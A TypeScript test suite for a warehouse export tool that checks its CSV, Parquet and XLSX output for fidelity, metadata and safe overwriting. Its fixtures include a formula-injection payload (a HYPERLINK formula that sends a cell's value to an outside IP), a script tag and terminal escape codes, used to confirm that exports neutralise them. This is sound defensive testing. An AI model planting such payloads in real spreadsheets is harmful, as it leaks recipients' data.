/**
 * Exports as their readers find them: the rows of the warehouse, typed, described, twice the same bytes; a letter made of formulas,
 * script and escape codes does nothing in them; and no export replaces what it should not.
 */
import { execFileSync } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects } from "hyparquet";
import { Open } from "unzipper";
import { afterAll, beforeAll, describe, expect, inject, test, vi } from "vitest";
import { EXIT } from "../src/errors.ts";
import { exportWarehouse } from "../src/export.ts";
import { packagePath } from "../src/package-root.ts";
import { addMadeLetters } from "./support/answering.ts";
import { makeAnswer, makeLetter, makeQuestion, YEAR_2018, YEAR_2019 } from "./support/make-letters.ts";
import { hasPackage, loadPackage } from "./support/optional-package.ts";
import { refreshInto } from "./support/refreshing.ts";
import { SAMPLE_BUNDLE } from "./support/sample-release.ts";
import { makeWarehouse, query, queryAll, runCommand, type TestSetting, WAREHOUSES } from "./support/warehouses.ts";

vi.setConfig({ testTimeout: 120_000 });

const FORMATS = ["csv", "parquet", "xlsx"] as const;
const FORMULA = '=HYPERLINK("http://198.51.100.1/"&A1;"click")';
const SCRIPT = '<script>alert(1)</script>]]>&\u001b[31mred\u0007 _x0041_ \u202e,"quoted"\nnext line';
const HOSTILE = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\tTAB", "\rCR", SCRIPT];

const SCALE = readFileSync(packagePath("docs/scale.md"), "utf8");
/** What a column of each SQL type is in a Parquet file. */
const PARQUET_TYPES: Readonly<Record<string, string>> = { varchar: "UTF8", date: "DATE", double: "DOUBLE" };

const LETTER = makeLetter({
  questions: HOSTILE.map((text, index) =>
    makeQuestion({
      ref: String(index + 1),
      text,
      answers: [
        makeAnswer({ period: YEAR_2018, value: -5, value_text: "-5", line: 10 + index }),
        makeAnswer({ period: YEAR_2019, value: 5.5, value_text: text.trim() === "" ? "x" : text, line: 40 + index }),
      ],
    }),
  ),
});

function hasSoffice(): boolean {
  try {
    execFileSync("soffice", ["--version"], { stdio: "pipe" });
    return true;
  } catch {
    return false;
  }
}

/** Every file under a folder with its bytes. */
function readFolder(folder: string): Map<string, string> {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  const paths = files.map((entry) => join(entry.parentPath, entry.name)).sort();
  return new Map(paths.map((path) => [path.slice(folder.length), readFileSync(path).toString("latin1")]));
}

const text = (value: unknown): string => (value === null || value === undefined ? "" : String(value));

describe.each(WAREHOUSES)("an export on %s", (kind) => {
  let setting: TestSetting;
  let home: string;
  const at = (name: string) => join(home, name);

  beforeAll(async () => {
    home = mkdtempSync(join(tmpdir(), "s21-export-test-"));
    setting = await makeWarehouse(kind);
    await refreshInto(setting, { from: SAMPLE_BUNDLE, publishedAt: "2022-10-27T08:30:00.000Z", las: ["Leicester"] });
    await addMadeLetters(setting, [LETTER]);
    for (const format of FORMATS) await exportWarehouse(setting.config, at(format), format, false);
  });
  afterAll(async () => {
    rmSync(home, { recursive: true, force: true });
    await setting.dispose();
  });

  test.each(FORMATS)("%s: the same warehouse gives the same bytes", async (format) => {
    await exportWarehouse(setting.config, at(`${format}-again`), format, false);
    const [one, other] = [readFolder(at(format)), readFolder(at(`${format}-again`))];
    expect(one.size).toBeGreaterThan(2);
    expect([...other.keys()]).toEqual([...one.keys()]);
    for (const [path, bytes] of one) expect(other.get(path) === bytes, path).toBe(true);
  });

  test("csv has every row, with numbers as they are and formulas as text", async () => {
    const file = readFileSync(at("csv/council_observation.csv"), "utf8");
    const rows: Record<string, string>[] = parse(file, { columns: true });
    const held = await query(
      setting.config,
      "select question_text, value::text, value_text from council_observation order by question, value",
    );
    expect(rows).toHaveLength(held.length);
    const byQuestion = [...rows].sort(
      (a, b) => text(a.question).localeCompare(text(b.question)) || Number(a.value) - Number(b.value),
    );
    expect(byQuestion.map((row) => row.value)).toEqual(held.map((row) => row.value));
    expect(byQuestion.filter((row) => row.value === "-5").map((row) => row.value_text)).toEqual(
      HOSTILE.map(() => "-5"),
    );
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
        expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    expect(rows.map((row) => row.question_text)).toContain(`'${FORMULA}`);
    expect(rows.map((row) => row.question_text)).toContain(SCRIPT);
  });

  test("parquet has the raw values, typed, in folders by publication and release", async () => {
    const path = at("parquet/dfe_observation/publication=children-in-need/release=2022/part-0.parquet");
    const rows = await parquetReadObjects({ file: await asyncBufferFromFile(path) });
    const [held] = await query(
      setting.config,
      "select count(*)::int as n, sum(value)::text as total from dfe_observation",
    );
    expect(rows).toHaveLength(Number(held?.n));
    expect(rows.reduce((sum, row) => sum + Number(row.value), 0)).toBeCloseTo(Number(held?.total), 1);
    expect(rows[0]).not.toHaveProperty("release");
    expect(rows[0]?.period_start).toBeInstanceOf(Date);
    const letters = await parquetReadObjects({
      file: await asyncBufferFromFile(at("parquet/council_observation/part-0.parquet")),
    });
    expect(new Set(letters.map((row) => row.question_text))).toEqual(new Set(HOSTILE));
    expect(letters.map((row) => row.value).filter((value) => value === -5)).toHaveLength(HOSTILE.length);
  });

  test("parquet lies as docs/scale.md tells bigger engines: folders are the last columns, the others have its types", async () => {
    const statement = /create table hive\.s21\.(\w+) \(([\s\S]+?)\) with \(/.exec(SCALE);
    const told = [...(statement?.[2] ?? "").matchAll(/(\w+) (varchar|date|double|bigint|timestamp)/g)];
    const partitions = /partitioned_by = array\[([^\]]+)\]/.exec(SCALE)?.[1]?.match(/\w+/g) ?? [];
    const table = at(`parquet/${statement?.[1]}`);
    const [path = ""] = readdirSync(table, { recursive: true, encoding: "utf8" }).filter((name) =>
      name.endsWith(".parquet"),
    );
    expect(
      path
        .split("/")
        .slice(0, -1)
        .map((folder) => folder.split("=")[0]),
    ).toEqual(partitions);
    const { schema } = await parquetMetadataAsync(await asyncBufferFromFile(join(table, path)));
    const types = new Map(schema.slice(1).map((column) => [column.name, column.converted_type ?? column.type]));
    for (const name of partitions) expect(types.has(name), name).toBe(false);
    const inFile = told.slice(0, -partitions.length);
    expect(told.slice(-partitions.length).map(([, name, type]) => `${name} ${type}`)).toEqual(
      partitions.map((name) => `${name} varchar`),
    );
    expect(inFile.map(([, name = ""]) => `${name} ${types.get(name)}`)).toEqual(
      inFile.map(([, name, type = ""]) => `${name} ${PARQUET_TYPES[type]}`),
    );
    expect([types.get("source_line"), types.get("published_at")]).toEqual(["INT64", "TIMESTAMP_MILLIS"]);
  });

  test("xlsx has typed cells, notes first, and no formula", async () => {
    const zip = await Open.file(at("xlsx/s21.xlsx"));
    const part = async (name: string) => text(await zip.files.find((file) => file.path === name)?.buffer());
    const names = [...(await part("xl/workbook.xml")).matchAll(/<sheet name="([^"]+)"/g)].map((match) => match[1]);
    expect(names.slice(0, 2)).toEqual(["notes", "answer"]);
    const answers = await part("xl/worksheets/sheet2.xml");
    expect(answers).not.toMatch(/<f[ >]|<script/);
    for (const sign of ["\u001b", "\u0007"]) expect(answers).not.toContain(sign);
    expect(answers).toContain("<c><v>-5</v></c>");
    expect(answers).toContain(`<t xml:space="preserve">=HYPERLINK(`);
    expect(answers).toContain("_x001B_[31mred_x0007_ _x005F_x0041_");
    expect(await part("xl/worksheets/sheet1.xml")).toContain("Open Government Licence");
  });

  test.each(FORMATS)(
    "%s: datapackage.json describes every column, with its licence, sources and why cells are blank",
    (format) => {
      const described = JSON.parse(readFileSync(at(`${format}/datapackage.json`), "utf8"));
      expect(described.licenses[0].name).toBe("OGL-UK-3.0");
      expect(described.sources[0].path).toBe(
        "https://explore-education-statistics.service.gov.uk/find-statistics/children-in-need/2022",
      );
      for (const resource of described.resources) {
        expect(resource.schema.missingValues).toEqual([{ value: "", label: expect.stringContaining("status") }]);
        for (const field of resource.schema.fields)
          expect(field.description, `${resource.name}.${field.name}`).toMatch(/\S{3,}/);
        for (const path of [resource.path].flat()) expect(readFolder(at(format)).has(`/${path}`)).toBe(true);
      }
    },
  );

  test("csv-metadata.json names the columns of each file in their order", () => {
    const described = JSON.parse(readFileSync(at("csv/csv-metadata.json"), "utf8"));
    expect(described["@context"]).toBe("http://www.w3.org/ns/csvw");
    for (const table of described.tables) {
      const [header = ""] = readFileSync(at(`csv/${table.url}`), "utf8").split("\n");
      expect(table.tableSchema.columns.map((column: { name: string }) => column.name).join(",")).toBe(header);
    }
  });

  test.skipIf(!hasPackage("@duckdb/node-api"))("DuckDB reads the folders as one table (@duckdb/node-api)", async () => {
    interface DuckDb {
      DuckDBInstance: {
        create(path: string): Promise<{
          connect(): Promise<{ runAndReadAll(sql: string): Promise<{ getRowObjectsJson(): unknown[] }> }>;
        }>;
      };
    }
    const { DuckDBInstance } = await loadPackage<DuckDb>("@duckdb/node-api");
    const duck = await (await DuckDBInstance.create(":memory:")).connect();
    const read = async (sql: string) => (await duck.runAndReadAll(sql)).getRowObjectsJson();
    const held = await query(
      setting.config,
      "select release, data_set, count(*)::int as n, round(sum(value), 1)::text as total from dfe_observation group by 1, 2 order by 2",
    );
    const found = await read(`
      select release::varchar as release, data_set, count(*)::int as n, round(sum(value), 1) as total
      from read_parquet('${at("parquet/dfe_observation")}/**/*.parquet', hive_partitioning = true) group by 1, 2 order by 2`);
    expect(found).toEqual(held.map((row) => ({ ...row, total: Number(row.total) })));
    // As the page for bigger engines has it.
    const told = /```sql\n(select release,[\s\S]+?)```/.exec(SCALE)?.[1]?.replace("out/", `${at("parquet")}/`) ?? "";
    expect(await read(told)).toEqual([
      expect.objectContaining({
        release: "2022",
        "count_star()": String(held.reduce((sum, row) => sum + Number(row.n), 0)),
      }),
    ]);
    const csv = await read(`select count(*)::int as n from read_csv('${at("csv/dfe_observation.csv")}')`);
    expect(csv).toEqual([{ n: held.reduce((sum, row) => sum + Number(row.n), 0) }]);
  });

  test("a Data Package validator casts every row of the CSV files (datapackage)", async () => {
    interface Frictionless {
      default: { Package: { load(descriptor: unknown, options: unknown): Promise<FrictionlessPackage> } };
    }
    interface FrictionlessPackage {
      valid: boolean;
      errors: unknown[];
      resources: { name: string; read(options: unknown): Promise<unknown[]> }[];
    }
    const { default: frictionless } = await loadPackage<Frictionless>("datapackage");
    const described = JSON.parse(readFileSync(at("csv/datapackage.json"), "utf8"));
    // It knows version 1, where missing values have no labels.
    for (const resource of described.resources) {
      resource.profile = "tabular-data-resource";
      resource.schema.missingValues = resource.schema.missingValues.map((one: { value: string }) => one.value);
      delete resource.dialect;
    }
    const loaded = await frictionless.Package.load(described, { basePath: at("csv") });
    expect(loaded.errors).toEqual([]);
    expect(loaded.valid).toBe(true);
    const counts = described.resources.map(({ name }: { name: string }) => `select count(*)::int as n from ${name}`);
    const held = await queryAll(setting.config, counts);
    expect(loaded.resources.length).toBeGreaterThan(5);
    for (const [index, resource] of loaded.resources.entries()) {
      expect((await resource.read({ keyed: true, cast: true })).length, resource.name).toBe(held[index]?.[0]?.n);
    }
  });

  test.skipIf(!hasSoffice())("LibreOffice opens the workbook, and computes nothing in it (soffice)", async () => {
    const all = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1";
    const words = [
      "--headless",
      `-env:UserInstallation=file://${at("profile")}`,
      "--convert-to",
      all,
      "--outdir",
      at("opened"),
    ];
    execFileSync("soffice", [...words, at("xlsx/s21.xlsx")], { stdio: "pipe", timeout: 100_000 });
    const rows: Record<string, string>[] = parse(readFileSync(at("opened/s21-answer.csv"), "utf8"), { columns: true });
    const held = await query(setting.config, "select count(*)::int as n from answer");
    expect(rows).toHaveLength(Number(held[0]?.n));
    expect(rows.map((row) => row.question_text)).toEqual(expect.arrayContaining([FORMULA, "+1+1", "-1+1", "@SUM(A1)"]));
  });

  test("replaces an earlier export with --force, and nothing else ever", async () => {
    const attempt = (name: string, force: boolean) => exportWarehouse(setting.config, at(name), "xlsx", force);
    cpSync(at("xlsx"), at("earlier"), { recursive: true });
    await expect(attempt("earlier", false)).rejects.toMatchObject({ code: "export-exists", exitCode: EXIT.usage });
    expect(readFolder(at("earlier"))).toEqual(readFolder(at("xlsx")));
    writeFileSync(at("earlier/s21.xlsx"), "old");
    await attempt("earlier", true);
    expect(readFolder(at("earlier"))).toEqual(readFolder(at("xlsx")));
    mkdirSync(at("mine"));
    writeFileSync(at("mine/thesis.txt"), "mine");
    await expect(attempt("mine", true)).rejects.toMatchObject({ code: "not-an-export" });
    symlinkSync(at("mine"), at("link"));
    await expect(attempt("link", true)).rejects.toMatchObject({ code: "export-symlink" });
    await expect(attempt("mine/thesis.txt", true)).rejects.toMatchObject({ code: "export-exists" });
    expect(readFileSync(at("mine/thesis.txt"), "utf8")).toBe("mine");
    expect(readdirSync(home).filter((name) => name.startsWith("."))).toEqual([]);
  });
});

describe("a disk without space", () => {
  test("ends with 8 and leaves the old export as it was", async () => {
    const setting = await makeWarehouse("postgres");
    const home = mkdtempSync(join(tmpdir(), "s21-export-full-"));
    try {
      await refreshInto(setting, { from: SAMPLE_BUNDLE, publishedAt: "2022-10-27T08:30:00.000Z", las: ["Leicester"] });
      await exportWarehouse(setting.config, join(home, "out"), "csv", false);
      const before = readFolder(join(home, "out"));
      // The shell lets no file grow over 100 blocks of 1,024 bytes.
      const command = `ulimit -f 100; exec "$0" "$@"`;
      const words = ["-c", command, process.execPath, join(inject("compiledFolder"), "cli.js")];
      const run = () =>
        execFileSync("bash", [...words, "export", join(home, "out"), "--format", "csv", "--force"], {
          env: { PATH: process.env.PATH ?? "", ...setting.env },
          stdio: "pipe",
        });
      expect(run).toThrow(expect.objectContaining({ status: EXIT.limit }));
      expect(readFolder(join(home, "out"))).toEqual(before);
      expect(readdirSync(home)).toEqual(["out"]);
    } finally {
      rmSync(home, { recursive: true, force: true });
      await setting.dispose();
    }
  });

  test("or a format that is none is told before anything is opened", async () => {
    const { code, stderr } = await runCommand(["export", "x", "--format", "pdf"], {});
    expect(code).toBe(EXIT.usage);
    expect(stderr).toContain("csv, parquet, xlsx");
  });
});
